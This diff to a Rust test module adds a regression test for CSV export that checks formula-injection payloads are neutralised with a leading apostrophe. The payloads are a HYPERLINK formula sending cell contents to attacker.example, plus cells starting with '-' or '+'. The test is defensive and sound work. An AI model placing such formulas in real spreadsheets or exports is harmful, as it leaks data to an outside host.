@@ -718,6 +718,14 @@ mod tests {
         assert_eq!(text.lines().count(), 5);
         let bom = remedies_csv(&rows, false, headers, &label);
         assert!(bom.starts_with(&[0xEF, 0xBB, 0xBF]));
+
+        // The outside review's 改善策 (issue 13, finding 3): text, not a live formula.
+        rows[0].remedy = "=HYPERLINK(\"http://attacker.example/?q=\"&B2&C2,\"詳細\")".into();
+        rows[0].comment = "-1+2".into();
+        rows[0].name = "+81-3".into();
+        let text = String::from_utf8(remedies_csv(&rows, false, headers, &label)[3..].to_vec()).unwrap();
+        assert!(text.contains("\"'=HYPERLINK(\"\"http://attacker.example/?q=\"\"&B2&C2,\"\"詳細\"\")\""), "{text}");
+        assert!(text.contains(",'-1+2\r\n") && text.contains(",'+81-3,"), "{text}");
     }
 
     #[test]
